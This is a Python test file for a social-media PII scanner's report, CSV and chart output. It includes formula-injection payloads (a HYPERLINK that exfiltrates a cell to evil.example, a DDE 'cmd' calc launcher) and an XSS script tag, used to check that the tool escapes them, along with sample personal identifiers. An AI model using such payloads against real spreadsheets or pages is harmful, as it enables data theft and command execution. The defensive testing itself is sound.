"""The scan report: HTML with the charts and the numbers, the CSV of flagged posts, the summary; charts
escape what users wrote."""

from __future__ import annotations

import csv
import json
import re

from scan_archive import POLICY_YAML, POSTS, write_jsonl

from socialguard.scans import run
from socialguard.scans.charts import bar_chart, column_chart
from socialguard.scans.report import write_report


def scanned(client, tmp_path, posts):
    path = write_jsonl(tmp_path / "posts.jsonl", posts)
    path.write_bytes(path.read_bytes() + b"not json at all\n")
    plan = run.prepare([str(path)], POLICY_YAML, "policy.yaml", tmp_path / "out", "parquet", 4)
    run.execute(plan, client)
    return write_report(tmp_path / "out")


def test_html_report_has_the_numbers_and_a_chart_per_dimension(client, tmp_path):
    report = scanned(client, tmp_path, POSTS)
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    counts = dict(re.findall(r"<tr><th>([^<]+)</th><td class=\"n\">([\d,]+)</td></tr>", html))
    assert counts["Input rows"] == "9" and counts["Checked rows"] == "8"
    assert counts["Rejected rows (malformed, not checked)"] == "1"
    assert counts["Flagged posts (at least one finding)"] == "4"
    assert counts["blocked"] == "2" and counts["needs_approval"] == "2" and counts["ok"] == "4"
    assert "every row is accounted for" in html
    assert html.count("<svg") == 4
    for title in ("Findings by rule", "Findings by account", "Findings by author", "Findings by month"):
        assert f"<title>{title}</title>" in html
    assert "<title>pii-contact: 3</title>" in html and "<title>2025-03: 2</title>" in html
    assert "<td>@acme_pl</td><td class=\"n\">1</td><td class=\"n\">1</td>" in html
    assert "posts.jsonl</td><td class=\"n\">9</td><td>invalid JSON" in html
    assert "https://" not in html.replace("http://www.w3.org/2000/svg", "")  # nothing loaded from the network
    assert report.tally.adds_up


def test_months_in_order_with_undated_last(client, tmp_path):
    scanned(client, tmp_path, POSTS)
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    month_chart = html[html.index("<title>Findings by month</title>"):]
    labels = re.findall(r"<title>(\d{4}-\d{2}|\(no date\)): \d+</title>", month_chart)
    assert labels == ["2025-02", "2025-03", "(no date)"]


def test_flagged_csv_lists_every_flagged_post_with_rules_findings_and_text(client, tmp_path):
    scanned(client, tmp_path, POSTS)
    with (tmp_path / "out" / "flagged.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [r["id"] for r in rows] == ["en-pesel", "pl-email", "en-iban-phone", "pl-phone"]
    iban = rows[2]
    assert iban["rules"] == "pii-contact;pii-national-ids" and iban["outcome"] == "blocked"
    assert iban["findings"] == ("pii-national-ids (block): PL61 1090 1014 0000 0712 1981 2874; "
                                "pii-contact (review): +48 601 234 567")
    assert iban["text"] == POSTS[5]["text"] and iban["line"] == "6" and iban["author"] == "anna"
    assert rows[1]["text"] == "Napisz do mnie na jan.kowalski@gmail.com w sprawie zamówienia"


def test_flagged_csv_keeps_texts_with_quotes_commas_and_line_breaks(client, tmp_path):
    text = 'She said "call me", twice:\r\n22 123 45 67\nthanks, "Ewa"'
    scanned(client, tmp_path, [{**POSTS[6], "text": text}, {**POSTS[6], "id": "", "text": text}])
    with (tmp_path / "out" / "flagged.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [(r["id"], r["text"], r["rules"]) for r in rows] == [("pl-phone", text, "pii-contact"),
                                                                ("", text, "pii-contact")]


def test_flagged_and_rejected_csv_guard_cells_a_spreadsheet_would_run(client, tmp_path):
    """Issue 12: flagged.csv used to carry `=HYPERLINK(...)` texts as formulas."""
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"PESEL 44051401359")'
    posts = [{**POSTS[2], "text": formula, "author": "+1+cmd|' /C calc'!A0", "account_handle": "@acme"},
             {"id": "-2+3", "text": 42}]
    scanned(client, tmp_path, posts)
    out = tmp_path / "out"
    with (out / "flagged.csv").open(encoding="utf-8", newline="") as stream:
        flagged = list(csv.DictReader(stream))
    assert flagged[0]["text"] == "'" + formula and flagged[0]["author"] == "'+1+cmd|' /C calc'!A0"
    assert flagged[0]["account_handle"] == "@acme"  # a handle runs nothing and stays as it is
    with (out / "rejected.csv").open(encoding="utf-8", newline="") as stream:
        assert [r["id"] for r in csv.DictReader(stream)] == ["'-2+3", ""]


def test_summary_json_adds_up(client, tmp_path):
    scanned(client, tmp_path, POSTS)
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["input_rows"] == summary["checked_rows"] + summary["rejected_rows"] == 9
    assert summary["policy"]["version"] == "scan-test-1"
    assert summary["findings"]["author"] == {"anna": 3, "piotr": 1, "ewa": 1}


def test_user_text_in_the_report_is_escaped(client, tmp_path):
    posts = [{**POSTS[2], "author": "<script>alert(1)</script>", "account_handle": "@a&b"}]
    scanned(client, tmp_path, posts)
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "@a&amp;b" in html


def test_charts_scale_bars_and_show_values():
    svg = bar_chart("By rule", [("secrets", 10), ("pii", 5)])
    widths = [float(w) for w in re.findall(r"<rect [^>]*width='([\d.]+)'", svg)]
    assert widths[0] == 2 * widths[1]
    assert ">10</text>" in svg and ">5</text>" in svg and "<title>By rule</title>" in svg
    assert "nothing to show" in bar_chart("Empty", []) and "nothing to show" in column_chart("Empty", [])
    long_label = bar_chart("Long", [("a" * 80, 1)])
    assert "a" * 33 + "…" in long_label and f"<title>{'a' * 80}: 1</title>" in long_label
    columns = column_chart("By month", [("2025-01", 4), ("2025-02", 2)])
    heights = [float(h) for h in re.findall(r"<rect [^>]*height='([\d.]+)'", columns)]
    assert heights[0] == 2 * heights[1]
